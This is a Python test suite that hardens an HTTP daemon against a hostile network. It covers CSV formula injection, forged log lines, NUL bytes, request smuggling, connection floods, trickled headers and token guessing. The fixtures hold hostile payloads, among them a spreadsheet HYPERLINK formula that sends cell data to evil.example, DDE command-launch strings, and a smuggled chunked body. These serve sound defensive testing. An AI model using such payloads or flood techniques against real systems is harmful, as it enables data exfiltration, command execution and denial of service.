"""Hardening against a hostile network (issue 23, items 2–8): formulas in CSV cells, connection
exhaustion without a token, bodies read before the token is checked, unlimited failed
authentication, forged log lines, NUL in paths and parameters, and hygiene (/metrics behind the
read token, a JSON 414, Content-Length with chunked, one clock).

Each test fails against the daemon as it was before issue 23; the figures they measure are
written to build/reliability/ for docs/RELIABILITY.md."""
import csv
import http.client
import io
import json
import os
import socket
import threading
import time
import unittest

from harness import ADMIN, Daemon, DaemonTestCase, psql, wait_for

FIGURES = os.path.join(os.path.dirname(__file__), "..", "..", "build", "reliability")
DAY, NOW = "2017-12-06", "2017-12-07T10:30:00+08:00"
READ = "read-token-for-tests-0123456789"


def figure(name, values):
    os.makedirs(FIGURES, exist_ok=True)
    with open(os.path.join(FIGURES, name + ".json"), "w") as f:
        json.dump(values, f)


def csv_rows(r):
    return list(csv.DictReader(io.StringIO(r.body.decode("utf-8-sig"), newline="")))


def raw(port, data, timeout=10, source=None):
    """Sends data on a fresh connection (from source, an address of this host) and returns
    what comes back until the server closes or a whole response has arrived."""
    s = socket.create_connection(("127.0.0.1", port), timeout=timeout,
                                 source_address=(source, 0) if source else None)
    try:
        try:
            s.sendall(data)
        except (BrokenPipeError, ConnectionResetError):
            pass  # answered before the whole request was read
        out = b""
        while True:
            try:
                chunk = s.recv(65536)
            except (socket.timeout, ConnectionResetError):
                break
            if not chunk:
                break
            out += chunk
            head, sep, body = out.partition(b"\r\n\r\n")
            if sep:
                length = [l for l in head.split(b"\r\n") if l.lower().startswith(b"content-length:")]
                if length and len(body) >= int(length[0].split(b":")[1]):
                    break
        return out
    finally:
        s.close()


def get_from(port, path, source, token=None, headers=None, timeout=10):
    """GET from source (an address of this host, e.g. 127.0.0.2): (status, headers, body)."""
    c = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout, source_address=(source, 0))
    try:
        hdrs = dict(headers or {})
        if token:
            hdrs["Authorization"] = "Bearer " + token
        c.request("GET", path, headers=hdrs)
        r = c.getresponse()
        return r.status, dict(r.getheaders()), r.read()
    finally:
        c.close()


def rss_kb(pid, field="VmRSS"):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith(field + ":"):
                return int(line.split()[1])
    return 0


def status_of(out):
    line = out.split(b"\r\n", 1)[0]
    return int(line.split()[1]) if line.startswith(b"HTTP/") else None


def body_of(out):
    return json.loads(out.partition(b"\r\n\r\n")[2].decode())


class CsvFormulaTest(DaemonTestCase):
    """Item 2: text cells that a spreadsheet would run as a formula get a leading '; numbers,
    negative ones too, stay numbers."""
    ENV = {"AQRANK_NOW": NOW, "AQRANK_MIN_HOURS": "1", "AQRANK_FINALIZE_QUIET": "100000",
           "AQRANK_FINALIZE_AFTER": "2592000"}
    EVIL = {"name": '=HYPERLINK("http://evil.example/?"&A1,"click")', "unit": "+cmd|' /C calc'!A0",
            "contact_person": "-2+3", "contact_phone": "@SUM(1+1)"}

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        d = cls.d
        d.put_station("CSV-1", **cls.EVIL)
        d.put_station("CSV-2", name="\t=1+1", unit="\r=1+1", contact_person="东城区-2")
        d.put_station("CSV-3", name="plain", unit="-", contact_person="")
        readings = []
        for code, pm10 in (("CSV-1", 150), ("CSV-2", 120), ("CSV-3", 90)):
            readings += [{"station": code, "observed_at": f"{DAY}T{h:02d}:00:00+08:00", "pm10": pm10,
                          "pm25": 50, "temperature": -3.5} for h in range(24)]
        d.post_readings(readings)
        r = d.post(f"/api/v1/ranking/{DAY}/finalize", token=ADMIN)
        assert r.status == 200, r
        iv = d.get(f"/api/v1/interviews?date={DAY}").json["interviews"]
        first = [x for x in iv if x["station"] == "CSV-1"][0]
        r = d.request("PATCH", f"/api/v1/interviews/{first['id']}", body={"status": "interviewed",
                      "note": "=cmd|' /C notepad'!A0"}, token=ADMIN)
        assert r.status == 200, r

    def test_ranking_csv(self):
        rows = {x["station"]: x for x in csv_rows(self.d.get(f"/api/v1/ranking/{DAY}?format=csv&lang=en"))}
        self.assertEqual(rows["CSV-1"]["name"], "'" + self.EVIL["name"])
        self.assertEqual(rows["CSV-1"]["unit"], "'" + self.EVIL["unit"])
        self.assertEqual(rows["CSV-2"]["name"], "'\t=1+1")
        self.assertEqual(rows["CSV-2"]["unit"], "'\r=1+1")
        self.assertEqual(rows["CSV-3"]["name"], "plain")
        self.assertEqual(rows["CSV-3"]["unit"], "'-")
        self.assertEqual((rows["CSV-1"]["value"], rows["CSV-1"]["rank"]), ("150", "3"))
        # The JSON keeps what was stored: neutralizing is for spreadsheets only.
        j = {x["station"]: x for x in self.d.get(f"/api/v1/ranking/{DAY}").json["ranking"]}
        self.assertEqual(j["CSV-1"]["name"], self.EVIL["name"])

    def test_interviews_csv(self):
        rows = {x["station"]: x for x in csv_rows(self.d.get(f"/api/v1/interviews?date={DAY}&format=csv&lang=en"))}
        self.assertEqual(rows["CSV-1"]["name"], "'" + self.EVIL["name"])
        self.assertEqual(rows["CSV-1"]["unit"], "'" + self.EVIL["unit"])
        self.assertEqual(rows["CSV-1"]["contact_person"], "'-2+3")
        self.assertEqual(rows["CSV-1"]["note"], "'=cmd|' /C notepad'!A0")
        self.assertEqual(rows["CSV-2"]["contact_person"], "东城区-2")
        self.assertEqual(rows["CSV-3"]["contact_person"], "")
        self.assertEqual(rows["CSV-1"]["value"], "150")
        self.assertRegex(rows["CSV-1"]["pct_above_mean"], r"^\d+\.\d$")

    def test_readings_csv_keeps_negative_numbers(self):
        r = self.d.get("/api/v1/stations/CSV-1/readings?format=csv&lang=en&limit=3")
        rows = csv_rows(r)
        self.assertEqual(len(rows), 3)
        for row in rows:
            self.assertEqual(row["temperature"], "-3.5")
            self.assertEqual(row["pm10"], "150")
        # No cell of any CSV starts with a formula character unless it is a number.
        for path in (f"/api/v1/ranking/{DAY}?format=csv&lang=en", f"/api/v1/interviews?date={DAY}&format=csv&lang=en",
                     "/api/v1/stations/CSV-2/readings?format=csv&lang=en"):
            for row in csv.reader(io.StringIO(self.d.get(path).body.decode("utf-8-sig"), newline="")):
                for cell in row:
                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                        float(cell)  # only a number may start so


class LogInjectionTest(DaemonTestCase):
    """Item 6: a %0a in a path cannot forge a log line, nor %1b colour the operator's terminal."""
    FORGED = "2017-12-07T15:00:00.000000+08:00 info POST /api/v1/stations/FORGED 201 0 0.1ms"

    def forged_request(self):
        quoted = self.FORGED.replace(" ", "%20").replace(":", "%3a")
        out = raw(self.d.port, f"GET /healthz%0a{quoted}%0d%0a%1b[31mred%1b[0m HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        self.assertEqual(status_of(out), 404, out)
        out = raw(self.d.port, b"GET /api/v1/stations/%e4%b8%9c%ff%c2%9b HTTP/1.1\r\nHost: x\r\n\r\n")
        self.assertEqual(status_of(out), 404, out)

    def test_forged_line_is_escaped(self):
        before = len(self.d.lines)
        self.forged_request()
        line = wait_for(lambda: [l for l in self.d.lines[before:] if "/healthz" in l], 5, "the request line")
        self.assertEqual(len(line), 1, self.d.lines[before:])
        self.assertIn("/healthz\\x0a2017-12-07T15", line[0])
        self.assertIn("\\x0d\\x0a\\x1b[31mred\\x1b[0m 404", line[0])
        wait_for(lambda: any("/api/v1/stations/" in l for l in self.d.lines[before:]), 5, "the second line")
        new = self.d.lines[before:]
        self.assertFalse([l for l in new if l.startswith("2017-12-07T15:00:00.000000")], new)
        self.assertFalse([l for l in new if "\x1b" in l or "\r" in l], new)
        self.assertTrue([l for l in new if "/api/v1/stations/东\\xff\\u{009b} 404" in l], new)

    def test_json_log_lines_stay_json(self):
        d = Daemon(env={"AQRANK_LOG_FORMAT": "json"}).start()
        try:
            before = len(d.lines)
            out = raw(d.port, b"GET /x%0a%22%5c%1b%ff HTTP/1.1\r\nHost: x\r\n\r\n")
            self.assertEqual(status_of(out), 404, out)
            self.assertEqual(body_of(out)["error"]["code"], "not_found")  # %ff: still a JSON answer
            line = wait_for(lambda: [l for l in d.lines[before:] if '"status":404' in l], 5, "the request line")
            self.assertEqual(json.loads(line[0])["path"], '/x\\x0a"\\\\\\x1b\\xff')
        finally:
            self.assertEqual(d.stop(), 0)


class NulTest(DaemonTestCase):
    """Item 7: %00 anywhere in a path or a parameter is a 400, not a truncation."""

    def test_nul_in_path_and_parameters(self):
        for method, path in (("PUT", "/api/v1/stations/HX%00A"), ("GET", "/static/app.js%00.html"),
                             ("GET", "/api/v1/ranking/today?metric=pm10%00"),
                             ("GET", "/api/v1/stations?kind=micro%00x"), ("GET", "/healthz?x=%00"),
                             ("GET", "/api/v1/stations/HX%2500A%00")):
            body = {"name": "x", "kind": "micro", "lat": 1, "lon": 1} if method == "PUT" else None
            r = self.d.request(method, path, body=body, token=ADMIN)
            self.assertError(r, 400, "bad_request")
            self.assertIn("%00", r.json["error"]["message"])
        self.assertError(self.d.get("/api/v1/stations/HX"), 404, "unknown_station")
        # %25 is a percent sign, not a NUL: a code that cannot exist, nothing more.
        self.assertError(self.d.get("/api/v1/stations/HX%2500A"), 404, "unknown_station")
        self.assertEqual(self.d.get("/static/app.js").status, 200)
        self.assertEqual(self.d.get("/api/v1/ranking/today?metric=pm10").status, 200)

    def test_raw_nul_byte_in_request_line(self):
        out = raw(self.d.port, b"GET /static/app.js\x00.html HTTP/1.1\r\nHost: x\r\n\r\n")
        self.assertNotEqual(status_of(out), 200, out[:200])
        self.assertNotIn(b"<html", out.lower())


class HygieneTest(DaemonTestCase):
    """Item 8: /metrics behind the read token, JSON 414, Content-Length with chunked."""
    ENV = {"AQRANK_READ_TOKEN": READ}

    def test_metrics_needs_the_read_token(self):
        self.assertError(self.d.get("/metrics"), 401, "unauthorized")
        self.assertError(self.d.get("/metrics", token="not-a-token-of-this-daemon"), 401, "unauthorized")
        self.assertEqual(self.d.get("/metrics", token=READ).status, 200)
        self.assertEqual(self.d.get("/metrics", token=ADMIN).status, 200)
        self.assertEqual(self.d.get("/healthz").status, 200)  # health stays open

    def test_long_uri_gets_json_414(self):
        for n in (9 * 1024, 60 * 1024):
            out = raw(self.d.port, b"GET /api/v1/stations?x=" + b"a" * n + b" HTTP/1.1\r\nHost: x\r\n\r\n")
            self.assertEqual(status_of(out), 414, out[:300])
            self.assertEqual(body_of(out)["error"]["code"], "uri_too_long")
        # Up to the limit, the request is answered as usual: here, x is not a parameter of the
        # station list (422 naming it), not a 414.
        r = self.d.get("/api/v1/stations?x=" + "a" * 7000, token=READ)
        self.assertEqual((r.status, r.json["error"]["code"]), (422, "invalid_parameter"), r)
        self.assertEqual(r.json["error"]["details"][0]["field"], "x")

    def test_content_length_with_chunked_is_400(self):
        tok = None
        body = b'{"name": "smuggled", "kind": "micro", "lat": 1, "lon": 1}'
        chunked = hex(len(body))[2:].encode() + b"\r\n" + body + b"\r\n0\r\n\r\n"
        out = raw(self.d.port, b"PUT /api/v1/stations/SMUG-1 HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer "
                  + ADMIN.encode() + b"\r\nContent-Type: application/json\r\nContent-Length: "
                  + str(len(chunked)).encode() + b"\r\nTransfer-Encoding: chunked\r\n\r\n" + chunked)
        self.assertEqual(status_of(out), 400, out[:300])
        self.assertEqual(body_of(out)["error"]["code"], "bad_request")
        self.assertError(self.d.get("/api/v1/stations/SMUG-1", token=READ), 404, "unknown_station")
        # Either framing alone is fine.
        out = raw(self.d.port, b"PUT /api/v1/stations/SMUG-2 HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer "
                  + ADMIN.encode() + b"\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked"
                  + b"\r\nConnection: close\r\n\r\n" + chunked)
        self.assertEqual(status_of(out), 201, out[:300])
        self.assertIsNone(tok)


class MetricsTokenTest(DaemonTestCase):
    """Item 8: AQRANK_METRICS_TOKEN, when set, is what /metrics needs (or the admin token)."""
    METRICS = "metrics-token-for-tests-0123456"
    ENV = {"AQRANK_READ_TOKEN": READ, "AQRANK_METRICS_TOKEN": METRICS}

    def test_metrics_token(self):
        self.assertError(self.d.get("/metrics"), 401, "unauthorized")
        self.assertEqual(self.d.get("/metrics", token=self.METRICS).status, 200)
        self.assertEqual(self.d.get("/metrics", token=ADMIN).status, 200)
        self.assertError(self.d.get("/metrics", token=READ), 403, "forbidden")
        # The metrics token opens nothing else.
        self.assertError(self.d.get("/api/v1/stations", token=self.METRICS), 403, "forbidden")
        self.assertError(self.d.post("/api/v1/readings", body={}, token=self.METRICS), 403, "forbidden")


def send_head(port, head, source=None, timeout=10):
    """Opens a connection, sends a request head only, returns the socket."""
    s = socket.create_connection(("127.0.0.1", port), timeout=timeout,
                                 source_address=(source, 0) if source else None)
    s.sendall(head)
    return s


def read_answer(s):
    out = b""
    while True:
        try:
            chunk = s.recv(65536)
        except (socket.timeout, ConnectionResetError):
            break
        if not chunk:
            break
        out += chunk
        head, sep, body = out.partition(b"\r\n\r\n")
        if sep:
            length = [l for l in head.split(b"\r\n") if l.lower().startswith(b"content-length:")]
            if length and len(body) >= int(length[0].split(b":")[1]):
                break
    return out


BIG = 2 * 1024 * 1024


class BodyAfterTokenTest(DaemonTestCase):
    """Item 4: route, method, size and token are checked when the head arrives; a refused
    request is answered before any of its body is read."""
    ENV = {"AQRANK_NOW": NOW}

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.tok = cls.d.put_station("BODY-1")

    def refused_before_body(self, head, status, code):
        s = send_head(self.d.port, head, timeout=5)
        try:
            out = read_answer(s)  # no byte of the body was sent
        finally:
            s.close()
        self.assertEqual(status_of(out), status, (head[:80], out[:300]))
        self.assertEqual(body_of(out)["error"]["code"], code)
        return out

    def test_answers_before_the_body(self):
        def head(method, path, token=None, ctype=b"application/json", length=BIG):
            h = method + b" " + path + b" HTTP/1.1\r\nHost: x\r\nContent-Length: " + str(length).encode()
            if ctype:
                h += b"\r\nContent-Type: " + ctype
            if token:
                h += b"\r\nAuthorization: Bearer " + token.encode()
            return h + b"\r\n\r\n"
        out = self.refused_before_body(head(b"POST", b"/api/v1/readings"), 401, "unauthorized")
        self.assertIn(b"WWW-Authenticate: Bearer", out)
        self.refused_before_body(head(b"POST", b"/api/v1/readings", "wrong-token-0123456789abcdef"), 401,
                                 "unauthorized")
        self.refused_before_body(head(b"PUT", b"/api/v1/stations/BODY-2", self.tok), 403, "forbidden")
        self.refused_before_body(head(b"PATCH", b"/api/v1/readings", self.tok), 405, "method_not_allowed")
        self.refused_before_body(head(b"POST", b"/api/v1/nowhere", self.tok), 404, "not_found")
        self.refused_before_body(head(b"POST", b"/api/v1/readings", self.tok, b"text/plain"), 415,
                                 "unsupported_media_type")
        self.refused_before_body(head(b"POST", b"/api/v1/readings", self.tok, length=BIG + 1), 413,
                                 "body_too_large")
        s = send_head(self.d.port, b"POST /api/v1/readings HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked"
                      b"\r\nContent-Type: application/json\r\n\r\n", timeout=5)
        try:
            self.assertEqual(status_of(read_answer(s)), 401)
        finally:
            s.close()
        # An authorized request still sends its body and is answered after it.
        r = self.d.post("/api/v1/readings", body={"observed_at": "2017-12-07T09:00:00+08:00", "pm25": 1},
                        token=self.tok)
        self.assertEqual(r.status, 200, r)

    def test_rss_stays_low_under_unauthenticated_posts(self):
        pid = self.d.proc.pid
        before = rss_kb(pid)
        body = b"[" + b" " * (BIG - 2) + b"]"
        statuses = []

        def attacker():
            try:
                s = send_head(self.d.port, b"POST /api/v1/readings HTTP/1.1\r\nHost: x\r\nContent-Type: "
                              b"application/json\r\nContent-Length: " + str(len(body)).encode() + b"\r\n\r\n",
                              timeout=30)
                try:
                    try:
                        s.sendall(body)
                    except (BrokenPipeError, ConnectionResetError):
                        pass
                    statuses.append(status_of(read_answer(s)))
                finally:
                    s.close()
            except OSError as e:
                statuses.append(repr(e))
        threads = [threading.Thread(target=attacker) for _ in range(100)]
        for t in threads:
            t.start()
        peak = before
        while any(t.is_alive() for t in threads):
            peak = max(peak, rss_kb(pid))
            time.sleep(0.01)
        for t in threads:
            t.join()
        peak = max(peak, rss_kb(pid))
        grown_mb = (peak - before) / 1024
        figure("unauth_posts", {"posts": 100, "body_bytes": len(body), "rss_before_mb": round(before / 1024, 1),
                                "rss_peak_mb": round(peak / 1024, 1), "grown_mb": round(grown_mb, 1)})
        self.assertLess(grown_mb, 40, f"RSS {before / 1024:.0f} MB → peak {peak / 1024:.0f} MB")
        self.assertGreaterEqual(statuses.count(401), 90, statuses)
        self.assertEqual(self.d.get("/healthz").status, 200)


class AuthFailureLimitTest(DaemonTestCase):
    """Item 5: failed token checks are limited per client address (429 with Retry-After, JSON),
    with AQRANK_RATE_LIMIT unset; another address is unaffected; a missing token is no
    attempt."""
    ENV = {"AQRANK_TRUSTED_PROXIES": "", "AQRANK_AUTH_FAIL_LIMIT": "5", "AQRANK_READ_TOKEN": READ}

    def test_failures_limited_per_address(self):
        statuses = []
        for i in range(8):
            status, headers, body = get_from(self.d.port, "/api/v1/stations", "127.0.0.3", token=f"guess-{i:026d}")
            statuses.append(status)
            if status == 429:
                self.assertEqual(json.loads(body)["error"]["code"], "rate_limited")
                self.assertGreaterEqual(int(headers["Retry-After"]), 1)
        self.assertEqual(statuses, [401] * 5 + [429] * 3)
        # The right token from there waits too: a guess that succeeds must look like one that fails.
        self.assertEqual(get_from(self.d.port, "/api/v1/stations", "127.0.0.3", token=READ)[0], 429)
        # Another address is unaffected, and has its own budget.
        self.assertEqual(get_from(self.d.port, "/api/v1/stations", "127.0.0.2", token=READ)[0], 200)
        self.assertEqual(get_from(self.d.port, "/api/v1/stations", "127.0.0.2", token="x" * 20)[0], 401)
        # Admin routes (a database lookup of station tokens) are covered the same way.
        for _ in range(5):
            get_from(self.d.port, "/api/v1/stations", "127.0.0.5", token="y" * 20)
        r = self.d.request("POST", "/api/v1/stations/ANY/token", token=ADMIN)  # 127.0.0.1: unaffected
        self.assertIn(r.status, (200, 404), r)
        c = http.client.HTTPConnection("127.0.0.1", self.d.port, timeout=10, source_address=("127.0.0.5", 0))
        c.request("POST", "/api/v1/readings", body=b"{}", headers={"Authorization": "Bearer " + "z" * 20,
                                                                   "Content-Type": "application/json"})
        self.assertEqual(c.getresponse().status, 429)
        c.close()
        metrics = self.d.get("/metrics", token=READ).body.decode()
        self.assertRegex(metrics, r"aqrank_auth_failures_total ([6-9]|\d\d)")
        self.assertRegex(metrics, r"aqrank_auth_limited_total [4-9]")

    def test_missing_token_is_no_attempt(self):
        for _ in range(10):
            self.assertEqual(get_from(self.d.port, "/api/v1/stations", "127.0.0.4")[0], 401)
        self.assertEqual(get_from(self.d.port, "/api/v1/stations", "127.0.0.4", token=READ)[0], 200)


class AuthFailureDefaultsTest(DaemonTestCase):
    """Item 5 with the defaults (AQRANK_AUTH_FAIL_LIMIT=20, loopback a trusted proxy): the
    issue's 2000 wrong tokens get 429 after 20; behind the proxy, the client named by X-Real-IP
    is the one limited."""

    def test_default_limit_and_x_real_ip(self):
        t0 = time.monotonic()
        statuses = [self.d.post("/api/v1/readings", body={}, token=f"guess-{i:026d}",
                                headers={"X-Real-IP": "198.51.100.7"}).status for i in range(200)]
        elapsed = time.monotonic() - t0
        self.assertEqual(statuses[:20], [401] * 20)
        self.assertEqual(statuses[20:], [429] * 180)
        # Another client behind the same proxy is unaffected.
        r = self.d.request("PUT", "/api/v1/stations/DEF-1", body={"name": "x", "kind": "micro", "lat": 1, "lon": 1},
                           token=ADMIN, headers={"X-Real-IP": "198.51.100.8"})
        self.assertEqual(r.status, 201, r)
        figure("auth_failures", {"wrong_tokens": 200, "answered_401_or_403": 200 - statuses.count(429),
                                 "answered_429": statuses.count(429), "seconds": round(elapsed, 2)})
        # Without X-Real-IP the proxy itself is the client: a budget of its own.
        self.assertEqual(self.d.post("/api/v1/readings", body={}, token="q" * 20).status, 401)


def open_idle(port, n, source=None):
    socks = []
    for _ in range(n):
        try:
            socks.append(socket.create_connection(("127.0.0.1", port), timeout=5,
                                                  source_address=(source, 0) if source else None))
        except OSError:
            break
    return socks


def still_open(socks, wait=0.3):
    """How many of socks the server has not closed (a closed one reads end-of-file or a reset)."""
    open_ = 0
    for s in socks:
        s.settimeout(wait)
        try:
            if s.recv(1) != b"":
                open_ += 1
        except socket.timeout:
            open_ += 1
        except OSError:
            pass
        wait = 0.01  # the first wait covers them all
    return open_


class ConnectionLimitTest(DaemonTestCase):
    """Item 3: with the default per-address limit (64), an address that opens hundreds of idle
    connections holds 64 of them; a client from another address is served at once."""
    ENV = {"AQRANK_TRUSTED_PROXIES": ""}  # the attacker is 127.0.0.1: not a proxy here
    ATTACK = int(os.environ.get("AQ_ATTACK_CONNECTIONS", "300"))

    def test_per_address_limit_on_by_default(self):
        idle = open_idle(self.d.port, self.ATTACK)
        try:
            time.sleep(0.5)
            held = still_open(idle)
            times = []
            for _ in range(20):
                t0 = time.monotonic()
                status, _, _ = get_from(self.d.port, "/healthz", "127.0.0.2", timeout=5)
                times.append(time.monotonic() - t0)
                self.assertEqual(status, 200)
            worst = max(times)
            # The attacker's own next connection is refused (closed at once).
            extra = open_idle(self.d.port, 1)
            refused = still_open(extra) == 0
            for s in extra:
                s.close()
            metrics = get_from(self.d.port, "/metrics", "127.0.0.2")[2].decode()
        finally:
            for s in idle:
                s.close()
        figure("connection_limit", {"attack_connections": len(idle), "held": held,
                                    "worst_other_client_ms": round(worst * 1000, 1)})
        self.assertLessEqual(held, 64 + 4, "per-address limit")  # + at most one race per worker
        self.assertGreaterEqual(held, 60)
        self.assertTrue(refused)
        self.assertLess(worst, 0.5, times)
        self.assertRegex(metrics, r"aqrank_connections_refused_total [1-9]")
        # Once they are gone, the address is served again.
        wait_for(lambda: self.d.get("/healthz").status == 200, 5, "the attacker's address served again")


class HeaderDeadlineTest(DaemonTestCase):
    """Item 3: a client that trickles its head byte by byte is cut at AQRANK_HEADER_TIMEOUT,
    though each byte restarts the idle timeout (30 s); event streams, idle keep-alive
    connections and slow bodies of valid clients are not cut."""
    ENV = {"AQRANK_HEADER_TIMEOUT": "2", "AQRANK_CONN_TIMEOUT": "30", "AQRANK_EVENTS_KEEPALIVE": "1",
           "AQRANK_NOW": NOW}

    def held_for(self, s, trickle, limit=8.0):
        """Seconds until the server closes s, trickling one header byte every trickle s."""
        t0 = time.monotonic()
        s.settimeout(trickle)
        while time.monotonic() - t0 < limit:
            try:
                if s.recv(1) == b"":
                    break
            except socket.timeout:
                try:
                    s.sendall(b"a")
                except OSError:
                    break
            except OSError:
                break
        return time.monotonic() - t0

    def test_trickled_and_silent_heads_are_cut(self):
        silent = socket.create_connection(("127.0.0.1", self.d.port))
        t_silent = time.monotonic()
        trickler = send_head(self.d.port, b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ")
        try:
            trickled = self.held_for(trickler, 0.5)
            silent.settimeout(5)
            try:
                silent.recv(1)
            except OSError:
                pass
            quiet = time.monotonic() - t_silent
        finally:
            trickler.close()
            silent.close()
        figure("header_deadline", {"header_timeout_s": 2, "idle_timeout_s": 30, "trickle_every_s": 0.5,
                                   "trickler_held_s": round(trickled, 2), "silent_held_s": round(quiet, 2)})
        self.assertGreaterEqual(trickled, 1.9)
        self.assertLess(trickled, 3.5)
        self.assertLess(quiet, 3.5)
        self.assertRegex(self.d.get("/metrics").body.decode(), r"aqrank_header_timeouts_total [1-9]")

    def test_valid_clients_are_not_cut(self):
        tok = self.d.put_station("SLOW-1")
        # An event stream stays open past the header deadline and keeps receiving.
        events = send_head(self.d.port, b"GET /api/v1/events HTTP/1.1\r\nHost: x\r\n\r\n")
        events.settimeout(5)
        head = b""
        while b"\r\n\r\n" not in head:
            head += events.recv(4096)
        self.assertTrue(head.startswith(b"HTTP/1.1 200"), head)
        t_events = time.monotonic()
        c = http.client.HTTPConnection("127.0.0.1", self.d.port, timeout=10)
        try:
            # A kept-alive connection may idle past the header deadline between requests.
            for pause in (0, 3):
                time.sleep(pause)
                c.request("GET", "/healthz")
                r = c.getresponse()
                r.read()
                self.assertEqual(r.status, 200)
            # A slow body after an accepted head: the idle timeout applies, not the deadline.
            body = json.dumps({"observed_at": "2017-12-07T09:30:00+08:00", "pm25": 12}).encode()
            s = send_head(self.d.port, b"POST /api/v1/readings HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer "
                          + tok.encode() + b"\r\nContent-Type: application/json\r\nContent-Length: "
                          + str(len(body)).encode() + b"\r\n\r\n")
            try:
                for i in range(0, len(body), 10):
                    time.sleep(0.4)
                    s.sendall(body[i:i + 10])
                self.assertEqual(status_of(read_answer(s)), 200)
            finally:
                s.close()
            self.assertGreater(time.monotonic() - t_events, 3)
            self.assertTrue(events.recv(4096), "the stream is still open and sending keep-alives")
        finally:
            c.close()
            events.close()

class OneClockTest(DaemonTestCase):
    """Item 8: received_at, finalized_at and generated_at come from the daemon's clock, which
    AQRANK_NOW freezes, like everything else."""
    ENV = {"AQRANK_NOW": NOW, "AQRANK_MIN_HOURS": "1", "AQRANK_FINALIZE_QUIET": "100000",
           "AQRANK_FINALIZE_AFTER": "2592000"}

    def test_one_clock(self):
        self.d.put_station("CLK-1")
        live = {"station": "CLK-1", "observed_at": "2017-12-07T10:05:00+08:00", "pm10": 50, "pm25": 20}
        past = [{"station": "CLK-1", "observed_at": f"{DAY}T{h:02d}:00:00+08:00", "pm10": 60, "pm25": 30}
                for h in range(3)]
        copied = [{"station": "CLK-1", "observed_at": f"2017-12-05T{m // 60:02d}:{m % 60:02d}:00+08:00",
                   "pm10": 70, "pm25": 35} for m in range(100)]  # 64 or more: the COPY path
        self.d.post_readings([live])
        self.d.post_readings(past)
        self.d.post_readings(copied)
        self.d.post_readings([dict(live, pm10=51)])  # a conflict, kept for audit
        for day, n in (("2017-12-07", 1), (DAY, 3), ("2017-12-05", 100)):
            r = self.d.get(f"/api/v1/stations/CLK-1/readings?from={day}T00:00:00%2B08:00&to={day}T23:59:59%2B08:00")
            got = {x["received_at"] for x in r.json["readings"]}
            self.assertEqual(got, {NOW}, day)
            self.assertEqual(len(r.json["readings"]), n)
        self.assertEqual(psql("SELECT DISTINCT received_at = '2017-12-07T10:30:00+08:00' FROM reading_conflicts",
                              self.d.url), "t")
        r = self.d.post(f"/api/v1/ranking/{DAY}/finalize", token=ADMIN)
        self.assertEqual(r.status, 200, r)
        day = self.d.get(f"/api/v1/ranking/{DAY}").json
        self.assertEqual((day["finalized_at"], day["generated_at"]), (NOW, NOW))
        self.assertEqual(self.d.get("/api/v1/ranking/today").json["generated_at"], NOW)


if __name__ == "__main__":
    unittest.main()
